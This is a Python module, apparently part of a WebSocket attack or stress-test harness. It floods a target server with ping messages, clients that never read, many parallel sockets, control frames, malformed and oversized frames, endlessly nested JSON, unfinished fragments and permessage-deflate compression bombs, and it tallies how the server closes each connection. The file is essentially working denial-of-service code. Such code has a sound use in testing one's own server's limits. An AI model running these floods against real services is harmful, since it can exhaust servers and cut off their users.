"""Floods on sockets: more than is answered, more than is read, and what is no message at all."""

import asyncio
import json
import zlib

from attack.target import Target
from attack.wire import BINARY, PING_FRAME, Wire, frame, noise

_PING = frame(json.dumps({"type": "ping", "id": "r"}).encode())
_CLOSING = 0x88


async def _count_close(wire: Wire) -> None:
    """Read to the end, and note with which code the server closes."""
    last = b""
    try:
        while got := await wire.reader.read(1 << 16):
            last = (last + got)[-200:]
    except ConnectionError:
        pass
    at = last.rfind(_CLOSING)
    code = int.from_bytes(last[at + 2 : at + 4], "big") if at >= 0 else 0
    wire.target.tally[f"closed {code}" if code else "cut off"] += 1


async def _flood(
    target: Target, number: int, what: bytes, first: bytes = b"", *, reads: bool = True, **headers: str
) -> None:
    """Send the same as fast as it goes; come back whenever that was ended."""
    while True:
        wire = await Wire.open(target, number)
        ending = None
        try:
            if await wire.upgrade(**headers):
                ending = asyncio.create_task(_count_close(wire)) if reads else None
                wire.writer.write(first)
                target.under_way.set()
                await _pour(wire, what, ending)
        except (OSError, TimeoutError, asyncio.IncompleteReadError):
            target.tally["cut off"] += 1
        finally:
            if ending:
                ending.cancel()
            await wire.close()
        await asyncio.sleep(0.1)


async def _pour(wire: Wire, what: bytes, ending: asyncio.Task[None] | None) -> None:
    while not wire.writer.transport.is_closing() and not (ending and ending.done()):
        wire.writer.write(what)
        wire.target.tally["writes"] += 1
        await asyncio.wait_for(wire.writer.drain(), 30)
        await asyncio.sleep(0.001)


async def pings(target: Target) -> None:
    """One socket asks as fast as it goes."""
    await _flood(target, 0, 20 * _PING)


async def deaf(target: Target) -> None:
    """Ten sockets ask as fast as it goes and never read an answer."""
    await asyncio.gather(*(_flood(target, number, 20 * _PING, reads=False) for number in range(10)))


async def many(target: Target) -> None:
    """Sixty sockets of one address and sixty of others ask as fast as it goes."""
    numbers = [0] * 60 + list(range(1, 61))
    await asyncio.gather(*(_flood(target, number, 5 * _PING) for number in numbers))


async def control_frames(target: Target) -> None:
    """Ping frames, which a WebSocket answers by itself, from ten sockets."""
    await asyncio.gather(*(_flood(target, number, 50 * frame(b"?" * 100, PING_FRAME)) for number in range(10)))


async def garbage(target: Target) -> None:
    """Messages too large, no JSON, no text, no frames, nested without end; each from sockets of its own."""
    deep = b"[" * 15_000
    kinds = (
        frame(b"x" * 40_000),
        frame(b"x" * 1_000_000),
        frame(b"not json"),
        frame(noise(500), BINARY),
        frame(noise(500)),
        noise(3000),
        frame(deep),
        frame(b'{"type": "ping", "id": ' + deep),
        frame(b"", reserved=7),
    )
    await asyncio.gather(*(_flood(target, number, kind) for number, kind in enumerate(2 * kinds)))


async def fragments(target: Target) -> None:
    """Messages in tiny pieces that never come to an end."""
    first, more = frame(b"x", last=False), frame(b"x", 0, last=False)
    await asyncio.gather(*(_flood(target, number, 200 * more, first) for number in range(10)))


async def bombs(target: Target) -> None:
    """Compressed messages, each a thousand times as large as what is sent."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = squeeze.compress(b" " * 20_000_000) + squeeze.flush(zlib.Z_SYNC_FLUSH)
    sent, wish = frame(bomb[:-4], reserved=4), "permessage-deflate"
    await asyncio.gather(*(_flood(target, number, sent, Sec_WebSocket_Extensions=wish) for number in range(10)))
